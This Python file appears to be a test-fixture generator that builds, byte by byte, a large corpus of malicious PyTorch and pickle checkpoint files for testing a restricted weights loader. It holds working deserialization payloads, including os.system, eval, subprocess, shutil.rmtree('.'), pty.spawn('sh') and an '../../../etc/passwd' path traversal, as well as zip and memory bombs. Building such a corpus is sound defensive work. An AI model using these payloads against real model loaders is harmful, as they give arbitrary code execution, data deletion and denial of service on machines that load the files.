# SPDX-License-Identifier: Apache-2.0
"""Weights files made to harm.

Every family of tricks that pickles and their containers are known for, written byte by byte.

`cases()` gives name -> content. The payloads would leave a file PWNED in the working folder.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib

TOUCH = "touch PWNED"
CODE = "open('PWNED', 'w').close()"


def name(module: str, attribute: str) -> bytes:
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def text(word: str) -> bytes:
    return b"X" + struct.pack("<I", len(word.encode())) + word.encode()


def number(value: int) -> bytes:
    content = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(content)]) + content


def row(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + row(*arguments) + b"R"


def pairs(**entries: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in entries.items()) + b"u"


def program(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def zipped(
    content: bytes,
    records: dict[str, bytes] | None = None,
    *,
    method: int = zipfile.ZIP_STORED,
    order: bytes = b"little",
) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", method) as archive:
        warnings.simplefilter("ignore")  # of two records with one name
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/byteorder", order)
        for record, inside in (records or {}).items():
            archive.writestr(f"archive/{record}", inside)
        archive.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def checkpoint(value: bytes, **records: bytes) -> bytes:
    return zipped(program(pairs(model=value)), {f"data/{key.strip('_')}": content for key, content in records.items()})


# What REDUCE is asked to call.
CALLS: tuple[tuple[str, str, tuple[bytes, ...]], ...] = (
    *((module, "system", (text(TOUCH),)) for module in ("os", "posix", "nt")),
    *(
        (module, function, (text(CODE),))
        for module in ("builtins", "__builtin__")
        for function in ("eval", "exec", "compile", "__import__", "open", "input")
    ),
    *(
        ("builtins", function, (text("os"), text("system")))
        for function in ("getattr", "setattr", "map", "filter", "type", "vars", "globals", "breakpoint")
    ),
    ("os", "popen", (text(TOUCH),)),
    ("os", "execv", (text("/bin/touch"), row(text("touch"), text("PWNED")))),
    ("os", "remove", (text("w.pt"),)),
    ("subprocess", "Popen", (row(text("touch"), text("PWNED")),)),
    ("subprocess", "check_output", (row(text("touch"), text("PWNED")),)),
    ("commands", "getoutput", (text(TOUCH),)),
    ("operator", "attrgetter", (text("system"),)),
    ("operator", "methodcaller", (text("system"), text(TOUCH))),
    ("functools", "partial", (name("models.common", "Conv"),)),
    ("functools", "reduce", (name("models.common", "Conv"),)),
    ("importlib", "import_module", (text("antigravity"),)),
    ("importlib._bootstrap", "_gcd_import", (text("antigravity"),)),
    ("runpy", "run_path", (text("w.pt"),)),
    ("runpy", "_run_code", (text(CODE), b"}")),
    ("timeit", "timeit", (text(CODE),)),
    ("pip", "main", (row(text("install"), text("x")),)),
    ("pip._internal", "main", (row(text("install"), text("x")),)),
    ("webbrowser", "open", (text("http://127.0.0.1"),)),
    ("socket", "create_connection", (row(text("127.0.0.1"), number(9)),)),
    ("urllib.request", "urlopen", (text("http://127.0.0.1"),)),
    ("ctypes", "CDLL", (text("libc.so.6"),)),
    ("shutil", "rmtree", (text("."),)),
    ("pty", "spawn", (text("sh"),)),
    ("code", "interact", ()),
    ("pdb", "run", (text(CODE),)),
    ("bdb", "Bdb", ()),
    ("cProfile", "run", (text(CODE),)),
    ("profile", "run", (text(CODE),)),
    ("trace", "Trace", ()),
    ("marshal", "loads", (text("c"),)),
    ("types", "CodeType", ()),
    ("types", "FunctionType", ()),
    ("pickle", "loads", (text("cos\nsystem\n"),)),
    ("_pickle", "loads", (text("cos\nsystem\n"),)),
    ("torch", "load", (text("w.pt"),)),
    ("torch.serialization", "load", (text("w.pt"),)),
    ("torch.storage", "_load_from_bytes", (text("cos"),)),
    ("torch.hub", "load", (text("a/b"), text("c"))),
    ("torch.jit", "load", (text("w.pt"),)),
    ("torch.fx.graph_module", "reduce_graph_module", (b"}", text(CODE))),
    ("torch.utils.cpp_extension", "load", (text("x"),)),
    (
        "torch._tensor",
        "_rebuild_from_type_v2",
        (name("models.common", "Conv"), name("models.common", "Conv"), b")", b"}"),
    ),
    ("torch.distributed.rpc.internal", "deserialize", (text("x"),)),
    ("numpy", "load", (text("w.pt"),)),
    ("numpy", "fromfile", (text("w.pt"),)),
    ("numpy.testing._private.utils", "runstring", (text(CODE), b"}")),
    ("numpy.distutils.exec_command", "exec_command", (text(TOUCH),)),
    ("numpy.f2py.crackfortran", "myeval", (text(CODE),)),
    ("logging.config", "listen", (number(9),)),
    ("copyreg", "add_extension", (text("os"), text("system"), number(7))),
    ("copyreg", "__newobj__", (name("models.common", "Conv"),)),
    ("copyreg", "_reconstructor", (name("models.common", "Conv"), name("builtins", "dict"), b"}")),
    ("copyreg", "_reconstructor", (name("collections", "OrderedDict"), name("builtins", "object"), b"N")),
    ("asyncio", "create_subprocess_shell", (text(TOUCH),)),
    ("multiprocessing.util", "spawnv_passfds", (text("/bin/touch"), b")", b")")),
    ("zipimport", "zipimporter", (text("w.pt"),)),
    ("sqlite3", "connect", (text("PWNED"),)),
    ("test.support.script_helper", "assert_python_ok", (text("-c"), text(CODE))),
    ("idlelib.run", "Executive", ()),
    ("models.common", "Conv", (number(3),)),
    ("models.experimental", "attempt_load", (text("w.pt"),)),
    ("utils.general", "check_requirements", (text("x"),)),
    ("ultralytics.hub", "login", (text("x"),)),
    ("models.yolo", "DetectionModel", ()),
    ("torch.nn.modules.module", "Module", ()),
    ("argparse", "Namespace", ()),
    ("_codecs", "encode", (text("x"), text("rot13"))),
    ("_codecs", "decode", (text("x"), text("zip"))),
    ("pathlib", "Path", (number(1),)),
)

# Instructions that no checkpoint needs, with an argument that would matter to a common reader.
INSTRUCTIONS: dict[str, bytes] = {
    "INST": b"(" + text(TOUCH) + b"ios\nsystem\n",
    "OBJ": b"(" + name("models.common", "Conv") + text(TOUCH) + b"o",
    "NEWOBJ_EX": name("models.common", "Conv") + b")}\x92",
    "EXT1": b"\x82\x07",
    "EXT2": b"\x83\x07\x00",
    "EXT4": b"\x84\x07\x00\x00\x00",
    "PERSID": b"Pstorage\n",
    "UNICODE": b"V\\u0041\n",
    "STRING": b"S'os'\n",
    "INT": b"I1\n",
    "LONG": b"L1L\n",
    "LONG4": b"\x8b\xff\xff\xff\x7f1",
    "FLOAT": b"F1.0\n",
    "PUT": b"Np0\n",
    "GET": b"Np0\ng0\n",
    "POP": b"NN0",
    "POP_MARK": b"N(N1",
    "DUP": b"N2",
    "LIST": b"(Nl",
    "DICT": b"(NNd",
    "FROZENSET": b"(N\x91",
    "BYTEARRAY8": b"\x96\xff\xff\xff\xff\xff\xff\xff\x7f",
    "NEXT_BUFFER": b"\x97",
    "READONLY_BUFFER": b"N\x98",
    "BINUNICODE8": b"\x8d\xff\xff\xff\xff\xff\xff\xff\x7f",
    "BINBYTES8": b"\x8e\xff\xff\xff\xff\xff\xff\xff\x7f",
    "BINSTRING": b"T\xff\xff\xff\x7f",
    "SHORT_BINSTRING": b"U\x02os",
}


def storage(kind: str = "FloatStorage", key: bytes = text("0"), length: bytes = number(4), *more: bytes) -> bytes:
    return row(text("storage"), name("torch", kind), key, text("cpu"), length, *more) + b"Q"


def tensor(
    offset: bytes = number(0), shape: bytes = row(number(4)), strides: bytes = row(number(1)), of: bytes | None = None
) -> bytes:
    return call(
        "torch._utils",
        "_rebuild_tensor_v2",
        of or storage(),
        offset,
        shape,
        strides,
        b"\x89",
        call("collections", "OrderedDict"),
    )


def state(value: bytes) -> bytes:
    """A table of tensors with one entry."""
    return b"}" + text("w") + value + b"s"


FOUR = bytes(16)


def module(**parts: bytes) -> bytes:
    tables = {"_parameters": b"}", "_buffers": b"}", "_modules": b"}"} | parts
    return name("models.yolo", "Model") + b")\x81" + pairs(**tables) + b"b"


def _names() -> dict[str, bytes]:
    stacked = {
        "dotted attribute": (text("models.common"), text("Conv.__init__.__globals__")),
        "dotted builtin": (text("builtins"), text("eval.__call__")),
        "dunder": (text("models.common"), text("__builtins__")),
        "dunder method": (text("torch.nn.modules.module"), text("__setstate__")),
        "module as number": (number(1), text("system")),
        "name as number": (text("os"), number(1)),
        "name as list": (text("os"), b"]"),
        "empty": (text(""), text("")),
        "homoglyph": (text("mоdels.common"), text("Conv")),  # noqa: RUF001 -- a Cyrillic letter is the trick
        "relative": (text("..models"), text("Conv")),
        "like an allowed one": (text("models_evil.common"), text("Conv")),
        "below torch": (text("torch.nn.parallel.distributed"), text("DistributedDataParallel")),
        "terminal codes": (text("os\x1b[2J"), text("system")),
        "very long": (text("models." + "a" * 100_000), text("x")),
    }
    return {
        f"stacked name, {what}": checkpoint(module_ + word + b"\x93)\x81") for what, (module_, word) in stacked.items()
    }


def _objects() -> dict[str, bytes]:
    conv = name("models.common", "Conv")
    bodies = {
        "BUILD on a name": conv + pairs(a=b"N") + b"b",
        "BUILD on a list": b"]" + pairs(a=b"N") + b"b",
        "BUILD on a dict": b"}" + pairs(a=b"N") + b"b",
        "BUILD twice": conv + b")\x81" + pairs(a=b"N") + b"b" + pairs(a=b"N") + b"b",
        "NEWOBJ of a function": name("subprocess", "Popen") + row(text(TOUCH)) + b"\x81",
        "NEWOBJ of a path": name("pathlib", "PosixPath") + row(text("x")) + b"\x81",
        "NEWOBJ of a rebuilder": name("torch._utils", "_rebuild_tensor_v2") + b")\x81",
        "NEWOBJ without a tuple": conv + b"]\x81",
        "REDUCE of an object": conv + b")\x81)R",
        "REDUCE of a text": text("os.system") + row(text(TOUCH)) + b"R",
        "planted setstate": module(__setstate__=name("models.common", "Conv"), _parameters=text("x")),
        "planted reduce": module(__reduce__=call("collections", "OrderedDict"), _modules=pairs(x=text("y"))),
        "getattr chain": name("builtins", "getattr")
        + row(name("models.common", "Conv"), text("__init__"))
        + b"R"
        + row(text("x"))
        + b"R",
        "items on a text": text("x") + text("k") + b"Ns",
        "list as key": b"}" + b"]" + b"Ns",
        "tensor as key": b"}" + tensor() + b"Ns",
        "parameters that are text": module(_parameters=pairs(w=text("x"))),
        "modules that are tensors": module(_modules=pairs(w=tensor())),
        "module tables that are lists": module(_parameters=b"]"),
        "nothing": b"N",
        "a text": text("weights"),
        "underflow": b"R",
        "underflow behind a mark": b"(\x86",
        "no mark": b"t",
        "memo that is not there": b"h\x63",
        "values left behind": b"NN",
    }
    return {f"object, {what}": checkpoint(body, _0=FOUR) for what, body in bodies.items()}


def _tensors() -> dict[str, bytes]:
    bodies = {
        "offset outside": tensor(number(1)),
        "negative offset": tensor(number(-1)),
        "offset as text": tensor(text("0")),
        "stride outside": tensor(strides=row(number(2))),
        "negative stride": tensor(strides=row(number(-1))),
        "repeated by stride 0": tensor(shape=row(number(1 << 39)), strides=row(number(0))),
        "huge shape": tensor(shape=row(number(1 << 62))),
        "shape beyond 64 bits": tensor(shape=row(number(1 << 100))),
        "many dimensions": tensor(
            shape=row(*(number(1) for _ in range(64))), strides=row(*(number(1) for _ in range(64)))
        ),
        "shape and strides differ": tensor(strides=row(number(1), number(1))),
        "empty but huge": tensor(
            shape=row(number(0), number((1 << 40) - 1), number((1 << 40) - 1)),
            strides=row(number(1), number(1), number(1)),
        ),
        "no storage": tensor(of=b"N"),
        "storage of unknown kind": tensor(of=storage("QInt8Storage")),
        "storage of a function": tensor(
            of=row(text("storage"), name("models.common", "Conv"), text("0"), text("cpu"), number(4)) + b"Q"
        ),
        "negative length": tensor(of=storage(length=number(-4))),
        "length as truth": tensor(of=storage(length=b"\x88")),
        "four tebibytes": tensor(of=storage(length=number(1 << 40)), shape=row(number(1 << 40))),
        "promise of another length": tensor(of=storage(length=number(8))),
        "key as a path": tensor(of=storage(key=text("../../../etc/passwd"))),
        "key as a number": tensor(of=storage(key=number(0))),
        "storage that is missing": tensor(of=storage(key=text("77"))),
        "storage with more fields": tensor(of=storage("FloatStorage", text("0"), number(4), b"N")),
        "unknown reference": text("storage") + b"Q",
        "reference that calls": row(text("storage"), call("os", "system", text(TOUCH))) + b"Q",
        "bare storage": storage(),
        "one storage in two ways": tensor()
        + b"q\x01"
        + text("v")
        + tensor(of=storage("HalfStorage", length=number(8))),
        "parameter without a tensor": call("torch._utils", "_rebuild_parameter", text("x"), b"\x89", b"N"),
    }
    files = {f"tensor, {what}": checkpoint(state(body), _0=FOUR) for what, body in bodies.items()}
    files["tensor, one storage in two ways"] = checkpoint(
        b"}(" + text("w") + bodies["one storage in two ways"] + b"u", _0=FOUR
    )
    return files


def _bombs() -> dict[str, bytes]:
    encoded = text("x" * 1_000_000) + b"q\x01"
    lists = b"]q\x00" + b"".join(
        b"]" + b"(" + b"h" + bytes([n]) + b"h" + bytes([n]) + b"e" + b"q" + bytes([n + 1]) for n in range(60)
    )
    modules = (
        module()
        + b"q\x00"
        + b"".join(
            module(_modules=pairs(a=b"h" + bytes([n]), b=b"h" + bytes([n]))) + b"q" + bytes([n + 1]) for n in range(60)
        )
    )
    own = (
        name("models.yolo", "Model")
        + b")\x81q\x00"
        + pairs(_parameters=b"}", _buffers=b"}", _modules=pairs(again=b"h\x00"))
        + b"b"
    )
    bodies = {
        "nested tuples": b"N" + b"\x85" * 390_000,
        "nested lists": b"]" * 190_000 + b"a" * 189_999,
        "nested dicts": (b"}" + text("k")) * 50_000 + b"N" + b"s" * 50_000,
        "marks": b"(" * 390_000,
        "memo": b"N" + b"\x94" * 310_000,
        "memo far away": b"Nr\xff\xff\xff\xff",
        "instructions": b"N" + b"\x85" * 410_000,
        "empty lists": b"(" + b"]" * 390_000 + b"t",
        "empty sets": b"(" + b"\x8f" * 390_000 + b"t",
        "long whole number": b"\x8a\xff" + b"\x01" * 255,
        "text of a lie": b"X\xff\xff\xff\x7f",
        "bytes of a lie": b"B\xff\xff\xff\x7f",
        "bytes without end": encoded
        + b"\x85"
        + (b"c_codecs\nencode\n" + row(b"h\x01", text("latin1")) + b"R\x86") * 3000,
        "list in itself": b"]q\x00h\x00a",
        "dict in itself": b"}q\x00" + text("k") + b"h\x00s",
        "module in itself": own,
        "lists that double": b"(" + lists + b"t",
        "tensors of one storage": state(b"]" + b"(" + tensor() * 5000 + b"e"),
    }
    files = {f"bomb, {what}": checkpoint(body, _0=FOUR) for what, body in bodies.items()}
    files["bomb, modules that double"] = zipped(program(pairs(junk=row(modules), model=b"h\x3c")))
    files["bomb, lists that double in options"] = zipped(
        program(pairs(junk=row(lists), opt=pairs(data=b"h\x3c"), model=b"N"))
    )
    return files


def array(kind: str, shape: bytes, content: bytes) -> bytes:
    """A numpy array, as pickled."""
    made = call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), row(number(0)), b"C\x01b")
    return made + row(number(1), shape, call("numpy", "dtype", text(kind)), b"\x89", content) + b"b"


def _repeats() -> dict[str, bytes]:
    """A little that is used again and again, beside a sound table of tensors."""
    long, numbers = text("p" * 1_000_000), b"(" + b"K\x01" * 100_000 + b"t"
    again = b"h\x01"
    pairs_of_it = b"]q\x02(" + b"".join(row(number(n), b"N") for n in range(20_000)) + b"e"
    bodies = {
        "paths of one text": long
        + b"q\x01"
        + b"".join(call("pathlib", "PosixPath", *[again] * 50) for _ in range(200)),
        "texts of options": long + b"q\x01" + b"]" + b"(" + again * 5_000 + b"e",
        "tuple keys": numbers + b"q\x01}" + (again + b"Ns") * 100_000,
        "long keys": long + b"q\x01" + long + b"q\x02}" + (again + b"Nsh\x02Ns") * 80_000,
        "mappings of one list": pairs_of_it + call("collections", "OrderedDict", b"h\x02") * 3_000,
        "sets of one list": b"]q\x02("
        + b"".join(number(n) for n in range(50_000))
        + b"e"
        + call("builtins", "set", b"h\x02") * 3_000,
        "arrays of nothing": array("u1", row(number(60_000_000), number(0)), b"C\x00"),
        "arrays of one text": b"B"
        + struct.pack("<I", 4_000_000)
        + bytes(4_000_000)
        + b"q\x01"
        + array("u1", row(number(4_000_000)), again) * 60,
    }
    files = {
        f"repeats, {what}": zipped(program(pairs(model=state(tensor()), opt=b"(" + body + b"t")), {"data/0": FOUR})
        for what, body in bodies.items()
    }
    endless = name("models.yolo", "Model") + b")\x81" + pairs(_parameters=b"}", _buffers=b"}", _modules=b"}") + b"b"
    for _ in range(30):
        endless = module(_modules=b"}" + text("m" * 4_000) + endless + b"s")
    files["repeats, long names of parts"] = zipped(program(pairs(model=endless)))
    return files


def nested(count: int, size: int) -> bytes:
    """Records that lie in each other, like dolls: each a storage of its own of almost the size of the file."""
    inner, listed, crc = bytes(size), [], zlib.crc32
    for k in reversed(range(count)):
        key = f"archive/data/{k}".encode()
        listed.append((key, crc(inner), len(inner)))
        inner = (
            struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 33, crc(inner), len(inner), len(inner), len(key), 0)
            + key
            + inner
        )
    listed.reverse()
    body = b"".join(
        text(f"w{k}") + tensor(shape=row(number(1)), of=storage("ByteStorage", text(str(k)), number(one[2])))
        for k, one in enumerate(listed)
    )
    tree = program(b"}" + text("model") + b"}(" + body + b"us")
    head = (
        struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 33, crc(tree), len(tree), len(tree), 16, 0)
        + b"archive/data.pkl"
        + tree
    )
    at, directory = len(head), _entry(b"archive/data.pkl", crc(tree), len(tree), 0)
    for key, checksum, length in listed:
        directory += _entry(key, checksum, length, at)
        at += 30 + len(key)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(directory), len(head) + len(inner), 0)
    return head + inner + directory + end


def _entry(key: bytes, checksum: int, length: int, at: int) -> bytes:
    return (
        struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, checksum, length, length, len(key), 0, 0, 0, 0, 0, at
        )
        + key
    )


def many_records(count: int) -> bytes:
    """A directory of more entries than any checkpoint has."""
    directory = b"".join(_entry(b"archive/%07d" % k, 0, 0, 0) for k in range(count))
    return (
        b"PK\x03\x04"
        + bytes(26)
        + directory
        + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), 30, 0)
    )


def _containers() -> dict[str, bytes]:
    harmless = program(pairs(model=state(tensor())))
    good = zipped(harmless, {"data/0": FOUR})
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    attack = program(call("os", "system", text(TOUCH)))
    head = magic + program(b"M\xe9\x03")
    return {
        "container, empty": b"",
        "container, a page": b"<html>404 not found</html>" * 40,
        "container, plain pickle": attack,
        "container, plain pickle of protocol 0": b"cos\nsystem\n(S'touch PWNED'\ntR.",
        "container, tar": b"\0" * 257 + b"ustar\x0000" + b"\0" * 300,
        "container, gzip": b"\x1f\x8b" + bytes(300),
        "container, zip without a program": _renamed(good, b"data.pkl", b"date.pkl"),
        "container, compressed": zipped(harmless, {"data/0": FOUR}, method=zipfile.ZIP_DEFLATED),
        "container, compressed bomb": zipped(harmless, {"data/0": bytes(50_000_000)}, method=zipfile.ZIP_DEFLATED),
        "container, two programs": zipped(harmless, {"data.pkl": attack, "data/0": FOUR}),
        "container, two roots": zipped(harmless, {"../other/data.pkl": attack, "../b/data.pkl": attack}),
        "container, TorchScript": zipped(
            harmless, {"data/0": FOUR, "code/__torch__.py": CODE.encode(), "constants.pkl": attack}
        ),
        "container, big-endian": zipped(harmless, {"data/0": FOUR}, order=b"big"),
        "container, encrypted": _flagged(good),
        "container, records in each other": nested(300, 2_000_000),
        "container, a million records": many_records(1_000_000),
        "container, cut": good[: len(good) * 2 // 3],
        "container, only an end": good[-22:],
        "container, plain format, attack as magic": attack + harmless,
        "container, plain format, attack as version": magic + attack,
        "container, plain format, attack as machine": head + attack,
        "container, plain format, attack as tree": head + program(pairs(little_endian=b"\x88")) + attack,
        "container, plain format, big-endian": head + program(pairs(little_endian=b"\x89")) + harmless,
        "container, plain format, class source": head
        + program(pairs(little_endian=b"\x88"))
        + program(pairs(model=_sourced()))
        + program(b"]"),
        "container, protocol of the future": zipped(b"\x80\x09" + b"N."),
        "container, program without an end": zipped(b"\x80\x02N"),
    }


def _sourced() -> bytes:
    reference = row(text("module"), name("os", "system"), text("evil.py"), text(CODE)) + b"Q"
    return reference + b")\x81"


def _renamed(content: bytes, old: bytes, new: bytes) -> bytes:
    return content.replace(old, new)


def _flagged(content: bytes) -> bytes:
    """Every record of the directory marked as encrypted."""
    made = bytearray(content)
    at = made.find(b"PK\x01\x02")
    while at >= 0:
        made[at + 8] |= 1
        at = made.find(b"PK\x01\x02", at + 4)
    return bytes(made)


def cases() -> dict[str, bytes]:
    """Every file, by what it tries."""
    calls = {f"call {n} of {m}.{a}": checkpoint(call(m, a, *args)) for n, (m, a, args) in enumerate(CALLS)}
    beside = {
        f"beside a network, {m}.{a}": zipped(
            program(pairs(model=state(tensor()), opt=call(m, a, *args))), {"data/0": FOUR}
        )
        for m, a, args in CALLS[:6]
    }
    instructions = {f"instruction {what}": checkpoint(body) for what, body in INSTRUCTIONS.items()}
    return calls | beside | instructions | _names() | _objects() | _tensors() | _bombs() | _repeats() | _containers()
